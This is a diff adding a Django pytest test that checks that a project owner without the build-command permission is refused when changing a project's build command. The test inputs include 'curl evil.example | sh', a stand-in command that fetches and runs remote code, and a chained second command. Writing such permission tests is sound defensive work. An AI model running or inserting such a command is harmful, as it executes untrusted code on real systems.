@@ -76,6 +76,22 @@ def test_an_owner_cannot_point_an_approved_build_command_at_other_code(approved,
 
 
 @pytest.mark.django_db
+@pytest.mark.parametrize("command", ["curl evil.example | sh", "sh build.sh && sh other.sh"])
+def test_an_owner_without_the_right_cannot_change_the_build_command_of_a_project(
+    approved, user, command: str
+) -> None:
+    # When alice, no staff and without the right to set build commands, changes her project's command
+    response = client_as(user).patch(
+        f"/api/v1/projects/{approved.pk}/", {"build_command": command}, format="json"
+    )
+
+    # Then it is refused, naming the right it needs, and the approved command stays
+    assert "permission to set build commands" in error_fields(response)["build_command"][0]
+    approved.refresh_from_db()
+    assert {key: getattr(approved, key) for key in APPROVED} == APPROVED
+
+
+@pytest.mark.django_db
 def test_an_owner_may_change_the_repository_by_clearing_the_build_command(approved, user) -> None:
     # When alice clears the command with the change, as the refusal says
     response = client_as(user).patch(
